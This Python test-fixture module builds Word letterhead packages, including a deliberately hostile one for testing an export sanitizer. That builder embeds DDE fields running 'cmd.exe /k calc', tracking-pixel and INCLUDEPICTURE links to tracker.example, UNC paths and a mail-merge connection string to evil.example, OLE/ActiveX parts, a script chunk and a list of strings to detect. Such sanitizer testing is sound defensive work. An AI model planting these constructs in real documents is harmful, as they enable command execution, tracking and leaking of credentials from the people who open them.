"""Letterheads of every shape, built here from XML strings with zipfile (no binary fixtures).

``letterhead(**changes)`` returns the bytes of a .docx/.dotx like Word or LibreOffice would
save, with the given parts replaced or added; ``hostile()`` one that carries every kind of
active or external content the review found passing into exports (S2).
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = (f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'

HEADER_TEXT = "Gemeinde Musterstadt – Der Bürgermeister"
FOOTER_TEXT = "Rathausplatz 1 · 12345 Musterstadt"


def png(w: int = 4, h: int = 2, declared: tuple | None = None) -> bytes:
    def chunk(tag, data):
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)
    dw, dh = declared or (w, h)
    rows = b"".join(b"\x00" + b"\x1f\x4e\x79" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", dw, dh, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def drawing(rid: str, attr: str = "r:embed") -> str:
    return (f'<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="450000"/><wp:docPr id="1" name="Bild 1"/>'
            f'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
            f'<pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {attr}="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="450000"/></a:xfrm>'
            f'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
            f'</wp:inline></w:drawing></w:r>')


def story(tag: str, inner: str) -> str:
    return f"{DECL}<w:{tag} {NS}>{inner}</w:{tag}>"


def para(text: str, style: str | None = None) -> str:
    ppr = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{ppr}<w:r><w:t>{text}</w:t></w:r></w:p>"


STYLES = (f'{DECL}<w:styles {NS}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Arial" w:hAnsi="Arial"/>'
          '</w:rPr></w:rPrDefault><w:pPrDefault/></w:docDefaults>'
          '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>'
          '<w:style w:type="paragraph" w:styleId="Kopfzeile"><w:name w:val="header"/><w:basedOn w:val="Normal"/></w:style>'
          '<w:style w:type="paragraph" w:styleId="Fuzeile"><w:name w:val="footer"/><w:basedOn w:val="Normal"/></w:style>'
          '{extra}</w:styles>')
NUMBERING = (f'{DECL}<w:numbering {NS}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
             '<w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
             '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>{extra}</w:numbering>')
SETTINGS = f'{DECL}<w:settings {NS}><w:zoom w:percent="100"/>{{extra}}<w:defaultTabStop w:val="708"/></w:settings>'
SECT = ('<w:sectPr><w:headerReference w:type="default" r:id="rIdH1"/><w:footerReference w:type="default" r:id="rIdF1"/>'
        '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1417" w:right="1417" w:bottom="1134" w:left="1417" '
        'w:header="708" w:footer="708" w:gutter="0"/></w:sectPr>')


def letterhead(*, dotx: bool = False, numbering: str | None = "", sect: str | None = SECT,
               header: str | None = None, footer: str | None = None, styles_extra: str = "",
               settings_extra: str = "", body: str = "", header_rels: str = "", extra_parts: dict | None = None,
               extra_main_rels: str = "", extra_types: str = "", doctype: str = "", media: dict | None = None) -> bytes:
    """A letterhead package; ``numbering=None`` leaves the numbering part out (LibreOffice)."""
    header = header if header is not None else story("hdr", para(HEADER_TEXT, "Kopfzeile"))
    footer = footer if footer is not None else story("ftr", para(FOOTER_TEXT, "Fuzeile"))
    main_type = WML + ("template.main+xml" if dotx else "document.main+xml")
    parts = {
        "word/document.xml": f'{DECL}{doctype}<w:document {NS}><w:body>{body}{para("Vorlagentext, der nicht ins Konzept gehört")}'
                             f'{sect or ""}</w:body></w:document>',
        "word/styles.xml": STYLES.format(extra=styles_extra),
        "word/settings.xml": SETTINGS.format(extra=settings_extra),
        "word/header1.xml": header,
        "word/footer1.xml": footer,
    }
    rels = [("rIdS", "styles", "styles.xml"), ("rIdSet", "settings", "settings.xml"), ("rIdH1", "header", "header1.xml"),
            ("rIdF1", "footer", "footer1.xml")]
    overrides = [("/word/document.xml", main_type), ("/word/styles.xml", WML + "styles+xml"),
                 ("/word/settings.xml", WML + "settings+xml"), ("/word/header1.xml", WML + "header+xml"),
                 ("/word/footer1.xml", WML + "footer+xml")]
    if numbering is not None:
        parts["word/numbering.xml"] = NUMBERING.format(extra=numbering)
        rels.append(("rIdN", "numbering", "numbering.xml"))
        overrides.append(("/word/numbering.xml", WML + "numbering+xml"))
    rel_xml = "".join(f'<Relationship Id="{i}" Type="{RT}{t}" Target="{p}"/>' for i, t, p in rels) + extra_main_rels
    parts["word/_rels/document.xml.rels"] = (f'{DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                                             f'2006/relationships">{rel_xml}</Relationships>')
    if header_rels:
        parts["word/_rels/header1.xml.rels"] = (f'{DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                                                f'2006/relationships">{header_rels}</Relationships>')
    parts["_rels/.rels"] = (f'{DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                            f'<Relationship Id="rId1" Type="{RT}officeDocument" Target="word/document.xml"/>'
                            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                            'relationships/custom-properties" Target="docProps/custom.xml"/>'
                            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                            'relationships/extended-properties" Target="docProps/app.xml"/></Relationships>')
    parts["docProps/custom.xml"] = (f'{DECL}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                                    'custom-properties"><property name="Geheim">Passwort 1234</property></Properties>')
    parts["docProps/app.xml"] = (f'{DECL}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                                 'extended-properties"><Company>Interne Firma GmbH</Company></Properties>')
    override_xml = "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in overrides) + extra_types
    parts["[Content_Types].xml"] = (f'{DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                                    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                                    f'<Default Extension="png" ContentType="image/png"/>{override_xml}</Types>')
    parts.update(extra_parts or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
        for name, data in (media or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def field(instr: str, result: str = "x") -> str:
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


SECRETS = ("tracker.example", "evil.example", "calc", "oleObject", "ActiveX", "<script", "Passwort", "Interne Firma",
           "connectString", "frameset", "INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "Vorlagentext", "Kommentar geheim")


def hostile() -> bytes:
    """Every kind of active or external content, in header, first-page header, footer and elsewhere."""
    external = (f'<Relationship Id="rIdX" Type="{RT}image" Target="http://tracker.example/pixel.png" TargetMode="External"/>'
                f'<Relationship Id="rIdU" Type="{RT}image" Target="file://///evil.example/share/x.png" TargetMode="External"/>'
                f'<Relationship Id="rIdO" Type="{RT}oleObject" Target="embeddings/oleObject1.bin"/>'
                f'<Relationship Id="rIdC" Type="{RT}control" Target="activeX/activeX1.xml"/>'
                f'<Relationship Id="rIdL" Type="{RT}hyperlink" Target="http://tracker.example/klick" TargetMode="External"/>'
                f'<Relationship Id="rIdI" Type="{RT}image" Target="media/logo.png"/>')
    include_picture = field('INCLUDEPICTURE "http://tracker.example/a.png" \\d')
    include_text = field('INCLUDETEXT "\\\\evil.example\\share\\x.docx"')
    header_body = (para(HEADER_TEXT) + f"<w:p>{drawing('rIdX', 'r:link')}{drawing('rIdU', 'r:link')}{drawing('rIdI')}</w:p>"
                   + f'<w:p>{include_picture}' + include_text
                   + field('DDEAUTO cmd.exe "/k calc"') + field("PAGE", "1") + "</w:p>"
                   + '<w:p><w:fldSimple w:instr=" DDE cmd.exe /k calc "><w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>'
                   + '<w:p><w:r><w:object><v:shape id="o1"><v:imagedata r:id="rIdI" o:href="http://tracker.example/v.png"/>'
                   '</v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r></w:p>'
                   + '<w:p><w:r><w:control r:id="rIdC" w:name="ActiveX"/></w:r></w:p>'
                   + '<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>Klick</w:t></w:r></w:hyperlink></w:p>'
                   + '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Text</w:t></w:r><w:commentRangeEnd w:id="0"/>'
                   '<w:r><w:commentReference w:id="0"/></w:r></w:p>')
    main_rels = (f'<Relationship Id="rIdCom" Type="{RT}comments" Target="comments.xml"/>'
                 f'<Relationship Id="rIdWeb" Type="{RT}webSettings" Target="webSettings.xml"/>'
                 f'<Relationship Id="rIdAlt" Type="{RT}aFChunk" Target="chunk.html"/>'
                 f'<Relationship Id="rIdH2" Type="{RT}header" Target="header2.xml"/>'
                 f'<Relationship Id="rIdCx" Type="{RT}customXml" Target="../customXml/item1.xml"/>'
                 f'<Relationship Id="rIdGl" Type="{RT}glossaryDocument" Target="glossary/document.xml"/>'
                 f'<Relationship Id="rIdAt" Type="{RT}attachedTemplate" Target="http://tracker.example/t.dotm" '
                 'TargetMode="External"/>')
    sect = SECT.replace('<w:footerReference', '<w:headerReference w:type="first" r:id="rIdH2"/><w:footerReference') \
        .replace("</w:sectPr>", "<w:titlePg/></w:sectPr>")
    settings = ('<w:attachedTemplate r:id="rIdAt"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\db.accdb"/>'
                '<w:query w:val="SELECT * FROM Adressen"/></w:mailMerge>'
                '<w:docVars><w:docVar w:name="Passwort" w:val="geheim"/></w:docVars>'
                '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>')
    header2_rels = f'<Relationship Id="rIdX" Type="{RT}image" Target="http://tracker.example/first.png" TargetMode="External"/>'
    extra_types = (f'<Override PartName="/word/header2.xml" ContentType="{WML}header+xml"/>'
                   f'<Override PartName="/word/comments.xml" ContentType="{WML}comments+xml"/>'
                   f'<Override PartName="/word/webSettings.xml" ContentType="{WML}webSettings+xml"/>')
    return letterhead(
        header=story("hdr", header_body),
        footer=story("ftr", para(FOOTER_TEXT) + f"<w:p>{drawing('rIdX', 'r:link')}" + field('INCLUDEPICTURE "http://tracker.example/f.png"') + "</w:p>"),
        header_rels=external, sect=sect, settings_extra=settings, extra_main_rels=main_rels, extra_types=extra_types,
        body='<w:altChunk r:id="rIdAlt"/>',
        media={"word/media/logo.png": png(8, 4), "word/embeddings/oleObject1.bin": b"OLE calc payload",
               "word/activeX/activeX1.xml": b"<ax:ocx ActiveX='1'/>", "word/chunk.html": b"<script>alert(1)</script>",
               "word/_rels/header2.xml.rels": (f'{DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                                               f'2006/relationships">{header2_rels}</Relationships>').encode()},
        extra_parts={
            "word/header2.xml": story("hdr", para("Erste Seite") + f"<w:p>{drawing('rIdX', 'r:link')}</w:p>"),
            "word/comments.xml": story("comments", '<w:comment w:id="0" w:author="A">' + para("Kommentar geheim: Passwort 1234") + "</w:comment>"),
            "word/webSettings.xml": story("webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rIdX"/></w:frame></w:frameset>'),
            "customXml/item1.xml": "<daten>Passwort</daten>",
            "word/glossary/document.xml": story("glossaryDocument", ""),
        },
    )
